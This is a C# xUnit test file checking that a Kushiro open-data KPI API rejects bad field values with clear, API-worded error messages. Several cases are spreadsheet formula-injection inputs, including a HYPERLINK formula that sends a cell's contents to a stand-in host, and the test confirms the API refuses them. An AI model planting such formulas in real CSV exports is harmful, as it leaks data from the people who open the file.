using System.Net;
using System.Text.Json;

namespace Kushiro.OpenData.Api.Tests.Kpis;

/// <summary>
/// A refused write says what the field must be, in the API's words: not the framework's, which name C# properties and
/// attributes ("The Provenance field does not equal any of the values specified in AllowedValuesAttribute").
/// </summary>
public sealed class KpiInputMessageTests(WritableApiFactory api) : IClassFixture<WritableApiFactory>
{
    [Theory]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t"},"provenance":"x"}""", "provenance", "Is official or editorial.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"up"}""", "direction", "Is increase, decrease or maintain.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":""},"provenance":"editorial"}""", "source.title", "Is required and may not be empty or only white space.")]
    [InlineData("", """{"name":"   ","definition":"y","unit":"人","direction":"increase"}""", "name", "Is required and may not be empty or only white space.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":""},"provenance":"editorial"}""", "source.page", "Must be 1 to 100 characters long.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"increase","statistics":{"name":"国勢調査","governmentStatisticsCode":"1"}}""", "statistics.governmentStatisticsCode", "Is the statistic's 8-digit code in e-Stat (政府統計コード), e.g. 00200521.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":"=1+1"},"provenance":"editorial"}""", "source.page", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("", """{"name":"=HYPERLINK(\"http://example.org/?\"&A1,\"click\")","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"@SUM(1+1)","direction":"increase"}""", "unit", "Must not start with =, +, - or @: a spreadsheet opening the CSV would run it as a formula.")]
    public async Task ARefusedFieldIsToldWhatItMustBe(string under, string body, string field, string message)
    {
        var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
        await staff.PostJsonAsync("/api/v1/kpis", StaffClient.NewKpi("messages"));
        var response = await staff.PutAsync("/api/v1/kpis/messages" + under, new StringContent(body, System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var errors = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors");
        Assert.Equal([message], errors.GetProperty(field).EnumerateArray().Select(m => m.GetString()));
    }
}
